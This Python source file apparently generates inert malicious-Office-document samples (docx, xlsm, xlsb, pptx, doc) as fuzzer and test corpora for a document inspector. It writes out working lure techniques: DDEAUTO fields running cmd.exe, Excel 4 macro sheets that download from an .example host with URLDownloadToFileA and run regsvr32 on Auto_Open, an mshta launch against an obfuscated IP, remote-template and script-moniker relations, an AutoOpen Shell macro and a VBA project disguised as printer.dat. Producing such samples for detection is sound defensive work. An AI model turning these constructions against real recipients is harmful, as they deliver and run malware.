"""packages.py - ZIP-based Office documents, and .doc, with what lures have.

    packages.docx(text=[...], fields=[...], relations=[...], ...)
    packages.xlsx(...), packages.xlsb(...), packages.pptx(...)
    packages.doc(text=...)

Written from ECMA-376, [MS-XLSB] and [MS-DOC]; inert: hosts are .example, and
what would be started is named, not there. As small as readers accept.

    python3 packages.py FOLDER      the fuzzers' corpora, which tests read, too
"""

import io
import pathlib
import struct
import sys
import zipfile
from xml.sax.saxutils import escape, quoteattr

import macro_documents
import ole
import workbooks

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXCEL = "http://schemas.microsoft.com/office/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml."
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml."
STATES = ("visible", "hidden", "veryHidden")


class Package:
    """Parts with types and relations; bytes() makes the archive."""

    def __init__(self):
        self.parts = {}     # name: content
        self.types = {}     # name: type
        self.relations = {}  # of which part: tags

    def add(self, name, content, kind=None):
        if isinstance(content, str):
            content = content.encode()
        self.parts[name] = content
        if kind:
            self.types[name] = kind

    def relate(self, name, kind, target, outside=False):
        """A relation of a part; returns its id. kind: the end of the type,
        or all of it."""
        tags = self.relations.setdefault(name, [])
        number = f"rId{len(tags) + 1}"
        kind = kind if kind.startswith("http") else f"{OFFICE}/{kind}"
        mode = ' TargetMode="External"' if outside else ""
        tags.append(f'<Relationship Id="{number}" Type="{kind}" '
                    f"Target={quoteattr(target)}{mode}/>")
        return number

    def listing(self):
        """Every part, the types first."""
        defaults = {"rels": "application/vnd.openxmlformats-package."
                            "relationships+xml", "xml": "application/xml",
                    "png": "image/png"}
        types = "".join(f'<Default Extension="{ending}" '
                        f'ContentType="{kind}"/>'
                        for ending, kind in defaults.items())
        types += "".join(f'<Override PartName="/{name}" '
                         f'ContentType="{kind}"/>'
                         for name, kind in self.types.items())
        yield "[Content_Types].xml", (
            f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/content-types">{types}</Types>').encode()
        for name, tags in self.relations.items():
            folder, _, file = name.rpartition("/")
            yield f"{folder}/_rels/{file}.rels".lstrip("/"), (
                f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.'
                'org/package/2006/relationships">'
                f"{''.join(tags)}</Relationships>").encode()
        yield from self.parts.items()

    def bytes(self, stored=False):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            for name, content in self.listing():
                info = zipfile.ZipInfo(name, (2026, 11, 2, 9, 0, 0))
                info.compress_type = (zipfile.ZIP_STORED if stored
                                      else zipfile.ZIP_DEFLATED)
                archive.writestr(info, content)
        return made.getvalue()


PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(200)


def add_common(package, main, relations, pictures, vba, objects):
    """What all three kinds may have. relations: (type, target) outside;
    objects: (type, file name, content) inside."""
    for kind, target in relations:
        package.relate(main, kind, target, True)
    folder = main.partition("/")[0]
    for number in range(pictures):
        package.add(f"{folder}/media/image{number + 1}.png", PICTURE)
        package.relate(main, "image", f"media/image{number + 1}.png")
    if vba is not None:
        name, content = vba
        package.add(f"{folder}/{name}", content,
                    "application/vnd.ms-office.vbaProject")
        package.relate(main, f"{EXCEL}/vbaProject", name)
    for kind, name, content in objects:
        package.add(f"{folder}/embeddings/{name}", content)
        package.relate(main, kind, f"embeddings/{name}")


# --- text documents ---

def run(text, properties=""):
    """properties: tags that say how it is shown."""
    shown = f"<w:rPr>{properties}</w:rPr>" if properties else ""
    return (f'<w:r>{shown}<w:t xml:space="preserve">{escape(text)}</w:t>'
            "</w:r>")


WHITE = '<w:color w:val="FFFFFF"/>'
TINY = '<w:sz w:val="2"/>'
VANISHED = "<w:vanish/>"


def field(instruction, pieces=1, result="!Unexpected End of Formula"):
    """A field whose instruction comes in several runs."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    step = -(-len(instruction) // pieces)
    return (mark.format("begin") + "".join(
        "<w:r><w:instrText>"
        f"{escape(instruction[i:i + step])}</w:instrText></w:r>"
        for i in range(0, len(instruction), step))
        + mark.format("separate") + run(result) + mark.format("end"))


def simple_field(instruction, result=""):
    return (f"<w:fldSimple w:instr={quoteattr(instruction)}>"
            f"{run(result)}</w:fldSimple>")


def docx(body=(), relations=(), pictures=0, vba=None, objects=(),
         ribbon=None, prefix="w", coding="utf-8"):
    """body: runs and fields, each a paragraph. ribbon: the macro that its
    loading starts."""
    package = Package()
    main = "word/document.xml"
    text = (HEAD + '<w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body>'
            + "".join(f"<w:p>{one}</w:p>" for one in body)
            + "</w:body></w:document>")
    if prefix != "w":
        text = text.replace("w:", f"{prefix}:")
    if coding != "utf-8":
        text = text.replace("UTF-8", "UTF-16")
    package.add(main, text.encode(coding), WORD + "document.main+xml")
    package.relate("", "officeDocument", main)
    add_common(package, main, relations, pictures, vba, objects)
    if ribbon:
        package.add("customUI/customUI.xml",
                    f'<customUI xmlns="http://schemas.microsoft.com/office/'
                    f'2006/01/customui" onLoad="{ribbon}"/>')
        package.relate("", f"{EXCEL}/ui/extensibility",
                       "customUI/customUI.xml")
    return package


# --- spreadsheets ---

def cells(formulas=(), texts=()):
    return "".join(
        f"<c><f>{escape(one)}</f><v>0</v></c>" for one in formulas) + "".join(
        f'<c t="inlineStr"><is><t>{escape(one)}</t></is></c>'
        for one in texts)


def xlsx(sheets=(), macros=(), names=(), strings=(), dde=(), relations=(),
         pictures=0, vba=None, objects=()):
    """sheets: (state, texts); macros: (state, formulas); names: (name,
    hidden, formula); dde: (program, topic)."""
    package = Package()
    main = "xl/workbook.xml"
    listed = ""
    for number, (state, texts) in enumerate(sheets or [(0, ())]):
        name = f"worksheets/sheet{number + 1}.xml"
        package.add(f"xl/{name}", f"{HEAD}<worksheet><sheetData><row>"
                    f"{cells(texts=texts)}</row></sheetData></worksheet>",
                    SHEETS + "worksheet+xml")
        listed += (f'<sheet name="Sheet{number + 1}" sheetId="{number + 1}" '
                   f'state="{STATES[state]}" '
                   f'r:id="{package.relate(main, "worksheet", name)}"/>')
    for number, (state, formulas) in enumerate(macros):
        name = f"macrosheets/sheet{number + 1}.xml"
        package.add(f"xl/{name}", f"{HEAD}<xm:macrosheet><sheetData><row>"
                    f"{cells(formulas)}</row></sheetData></xm:macrosheet>",
                    "application/vnd.ms-excel.macrosheet+xml")
        listed += (f'<sheet name="Macro{number + 1}" '
                   f'sheetId="{number + 100}" state="{STATES[state]}" r:id='
                   f'"{package.relate(main, EXCEL + "/xlMacrosheet", name)}"'
                   "/>")
    defined = "".join(
        f'<definedName name="{name}" hidden="{int(hidden)}">'
        f"{escape(formula)}</definedName>"
        for name, hidden, formula in names)
    package.add(main, f"{HEAD}<workbook><sheets>{listed}</sheets>"
                f"<definedNames>{defined}</definedNames></workbook>",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
                if macros or vba else SHEETS + "sheet.main+xml")
    package.relate("", "officeDocument", main)
    if strings:
        package.add("xl/sharedStrings.xml", HEAD + "<sst>" + "".join(
            f"<si><t>{escape(one)}</t></si>" for one in strings) + "</sst>",
            SHEETS + "sharedStrings+xml")
        package.relate(main, "sharedStrings", "sharedStrings.xml")
    for number, (program, topic) in enumerate(dde):
        name = f"externalLinks/externalLink{number + 1}.xml"
        package.add(f"xl/{name}", f"{HEAD}<externalLink><ddeLink "
                    f"ddeService={quoteattr(program)} "
                    f"ddeTopic={quoteattr(topic)}/></externalLink>",
                    SHEETS + "externalLink+xml")
        package.relate(main, "externalLink", name)
    add_common(package, main, relations, pictures, vba, objects)
    return package


# --- binary spreadsheets ([MS-XLSB] 2.1.4) ---

def brt(kind, data=b""):
    def packed(value):
        made = bytearray()
        while value > 0x7F:
            made.append(value & 0x7F | 0x80)
            value >>= 7
        return bytes(made + bytes([value]))

    return packed(kind) + packed(len(data)) + data


def wide(text):
    return struct.pack("<I", workbooks.count(text)) + text.encode("utf-16-le")


def tokens(data):
    return struct.pack("<I", len(data)) + data + struct.pack("<I", 0)


def string(text):
    return b"\x17" + struct.pack("<H", workbooks.count(text)) \
        + text.encode("utf-16-le")


def cell(row, column):
    return b"\x44" + struct.pack("<IH", row, column)


def computed(data):
    """A cell with a formula whose value is a number (2.4.672)."""
    return brt(9, bytes(8) + struct.pack("<dH", 0.0, 0) + tokens(data))


def xlsb(sheets=1, macros=(), names=(), strings=(), dde=()):
    """macros: (state, formulas); names: (name, hidden, formula)."""
    package = Package()
    main = "xl/workbook.bin"
    binary = "application/vnd.ms-excel."
    book = b""
    for number in range(sheets):
        name = f"worksheets/sheet{number + 1}.bin"
        package.add(f"xl/{name}", brt(129) + brt(130), binary + "worksheet")
        book += brt(156, struct.pack("<II", 0, number + 1) + wide(
            package.relate(main, "worksheet", name)) + wide(f"Sheet{number}"))
    for number, (state, formulas) in enumerate(macros):
        name = f"macrosheets/sheet{number + 1}.bin"
        package.add(f"xl/{name}", brt(129) + b"".join(
            computed(one) for one in formulas) + brt(130),
            binary + "macrosheet")
        book += brt(156, struct.pack("<II", state, number + 100) + wide(
            package.relate(main, EXCEL + "/xlMacrosheet", name))
            + wide(f"Macro{number}"))
    for name, hidden, formula in names:
        book += brt(39, struct.pack("<IBI", 1 if hidden else 0, 0, 0xFFFFFFFF)
                    + wide(name) + tokens(formula) + wide(""))
    package.add(main, brt(131) + book + brt(132),
                binary + "sheet.binary.macroEnabled.main")
    package.relate("", "officeDocument", main)
    if strings:
        package.add("xl/sharedStrings.bin", brt(159, struct.pack(
            "<II", len(strings), len(strings))) + b"".join(
            brt(19, b"\0" + wide(one)) for one in strings) + brt(160),
            binary + "sharedStrings")
    for number, (program, topic) in enumerate(dde):
        package.add(f"xl/externalLinks/externalLink{number + 1}.bin",
                    brt(360, struct.pack("<H", 1) + wide(program)
                        + wide(topic)) + brt(588), binary + "externalLink")
    return package


# --- slides ---

def pptx(texts=(), relations=(), pictures=0, vba=None, objects=()):
    package = Package()
    main = "ppt/slides/slide1.xml"
    package.add("ppt/presentation.xml", f"{HEAD}<p:presentation/>",
                SLIDES + "presentation.main+xml")
    package.relate("", "officeDocument", "ppt/presentation.xml")
    package.relate("ppt/presentation.xml", "slide", "slides/slide1.xml")
    package.add(main, f"{HEAD}<p:sld>" + "".join(
        f"<a:p><a:r><a:t>{escape(one)}</a:t></a:r></a:p>" for one in texts)
        + "</p:sld>", SLIDES + "slide+xml")
    add_common(package, main, relations, pictures, vba, objects)
    return package


# --- Word 97 to 2003 ([MS-DOC]) ---

def doc_field(instruction, result=""):
    return f"\x13{instruction}\x14{result}\x15"


def doc_streams(text="", narrow=True, encrypted=False):
    """WordDocument and 1Table: the text in two pieces, the second of one
    byte a letter if narrow."""
    cut = len(text) // 2
    first = text[:cut].encode("utf-16-le")
    second = (text[cut:].encode("cp1252") if narrow
              else text[cut:].encode("utf-16-le"))
    main = bytearray(0x400)
    struct.pack_into("<HHHHHH", main, 0, 0xA5EC, 0xC1, 0, 0x409, 0,
                     0x0200 | (0x0100 if encrypted else 0))
    struct.pack_into("<II", main, 0x18, 0x400,
                     0x400 + len(first) + len(second))
    places = [0x400, 0x400 + len(first)]
    main += first + second
    pieces = struct.pack("<III", 0, cut, len(text))
    pieces += struct.pack("<HIH", 0, places[0], 0)
    pieces += struct.pack("<HIH", 0, places[1] * 2 | 0x40000000 if narrow
                          else places[1], 0)
    clx = (b"\x01\x04\0" + bytes(4) + b"\x02"
           + struct.pack("<I", len(pieces)) + pieces)
    table = bytes(64) + clx
    struct.pack_into("<II", main, 0x1A2, 64, len(clx))
    return {"WordDocument": bytes(main), "1Table": table}


def doc(**options):
    return ole.write(doc_streams(**options))


# --- whole samples, for the fuzzers and for training ---

DDE_COMMAND = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
CELL = workbooks.cell

SAMPLES = {
    "dde.docx": lambda: docx([field(DDE_COMMAND, 5), simple_field(
        'DDE "excel" "book.xls" r1c1'), field("PAGE")]).bytes(),
    "template.docx": lambda: docx(
        [run("Invoice")], [("attachedTemplate", "http://a.example/t.dotm"),
                           ("hyperlink", "https://b.example/"),
                           ("oleObject", "mhtml:http://c.example/x!x-usc:"),
                           ("frame", "\\\\d.example\\share\\f.htm"),
                           ("image", "http://e.example/pixel.png")]).bytes(),
    "lure.docx": lambda: docx(
        [run("Please click Ena") + run("ble Cont") + run("ent"),
         run("コンテンツの有効化"), run("Call me Ishmael.", WHITE),
         run("Some years ago", TINY), run("never mind", VANISHED)],
        pictures=1).bytes(),
    "wide.docx": lambda: docx([field(DDE_COMMAND)], coding="utf-16").bytes(),
    "prefix.docx": lambda: docx([field(DDE_COMMAND)], prefix="x").bytes(
        stored=True),
    "objects.docx": lambda: docx(
        [run("Text"), '<o:OLEObject Type="Embed" ProgID="Equation.3"/>'],
        objects=[("oleObject", "oleObject1.bin", b"an object"),
                 ("package", "book.xlsx", b"a package"),
                 ("control", "activeX1.xml", b"<ax:ocx/>")],
        ribbon="Run").bytes(),
    "macro.xlsm": lambda: xlsx(
        [(0, ["Enable Editing"]), (1, ())],
        [(2, ['CALL("urlmon","URLDownloadToFileA","JJCCBB",0,'
              '"http://a.example/b.ocx","..\\b.ocx",0,0)',
              'EXEC("regsvr32 "&CHAR(46)&".\\b.ocx")',
              "FORMULA.FILL(A1&A2,A3)", "HALT()"])],
        [("_xlnm.Auto_Open", True, "Macro1!$A$1"), ("Total", False, "A1")],
        ["Protected View"], pictures=1).bytes(),
    "plain.xlsx": lambda: xlsx([(0, ["January", "February"])], (), (),
                               ["Sum & total"]).bytes(),
    "dde.xlsx": lambda: xlsx(dde=[("cmd", "/c calc"),
                                  ("Excel", "Book")]).bytes(),
    "macro.xlsb": lambda: xlsb(
        1, [(1, [string("mshta http://0xb907d607/f.html")
                 + workbooks.call("EXEC", 1),
                 workbooks.integer(65) + workbooks.call("CHAR", 1)
                 + cell(1, 1) + workbooks.join()
                 + cell(2, 1) + workbooks.call("FORMULA", 2)])],
        [("_xlnm.Auto_Open", True, cell(0, 0))],
        ["Enable Content"], [("cmd", "/c calc")]).bytes(),
    "lure.pptx": lambda: pptx(["Enable Content"], [
        ("hyperlink", "script:http://a.example/x.sct")], 1).bytes(),
}

MACRO = ('Sub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n')


def project():
    return ole.write(macro_documents.project(MACRO))


def disguised():
    """A project that neither its name nor its type tells."""
    package = docx([run("Text")])
    package.add("word/printer.dat", project())
    package.relate("word/document.xml", f"{EXCEL}/vbaProject", "printer.dat")
    return package.bytes()


SAMPLES["macro.docm"] = lambda: docx(
    [run("Text")], vba=("vbaProject.bin", project())).bytes()
SAMPLES["disguised.docm"] = disguised

DOC_SAMPLES = {
    "lure": lambda: {"text": "Enable Editing and Ena\x01ble Content\r"
                     "https://a.example/x"},
    "wide": lambda: {"text": "編集を有効にする\r", "narrow": False},
    "fields": lambda: {"text": "A " + doc_field(
        DDE_COMMAND, "none") + doc_field(
        "DDE \x13QUOTE 99 109 100\x14\x15 more") + doc_field(
        "HYPERLINK \"http://b.example/\"", "here") + doc_field(
        "INCLUDETEXT \"http://c.example/x.doc\"")},
    "encrypted": lambda: {"text": "nothing", "encrypted": True},
}


# As lib/inspect/office/ooxml.h numbers kinds of parts.
KINDS = {"rels": 1, "workbook.xml": 2, "workbook.bin": 3, "macrosheets.xml": 4,
         "macrosheets.bin": 5, "worksheets.xml": 6, "worksheets.bin": 7,
         "sharedStrings.xml": 8, "sharedStrings.bin": 9,
         "externalLinks.xml": 10, "externalLinks.bin": 11, "document.xml": 12,
         "slides.xml": 13, "customUI.xml": 14}


def parts(title):
    """Each part of a sample by itself: its kind in a byte, its content."""
    with zipfile.ZipFile(io.BytesIO(SAMPLES[title]())) as archive:
        for name in archive.namelist():
            ending = name.rpartition(".")[2]
            place = name.split("/")[-2:]
            for key in (ending, place[-1], f"{place[0]}.{ending}"):
                if key in KINDS:
                    yield (f"{title}-{name.replace('/', '-')}",
                           bytes([KINDS[key]]) + archive.read(name))
                    break


def main():
    top = pathlib.Path(sys.argv[1])
    for folder in ("ooxml", "ooxml_part", "doc"):
        (top / folder).mkdir(parents=True, exist_ok=True)
    for title, make in SAMPLES.items():
        (top / "ooxml" / title).write_bytes(make())
    for title in ("dde.docx", "objects.docx", "macro.xlsm", "macro.xlsb",
                  "dde.xlsx", "lure.pptx"):
        for name, content in parts(title):
            (top / "ooxml_part" / name).write_bytes(content)
    for title, make in DOC_SAMPLES.items():
        streams = doc_streams(**make())
        table = streams["1Table"]
        (top / "doc" / title).write_bytes(
            struct.pack("<H", len(table)) + table + streams["WordDocument"])
    (top / "doc" / "file.doc").write_bytes(doc(**DOC_SAMPLES["fields"]()))


if __name__ == "__main__":
    main()
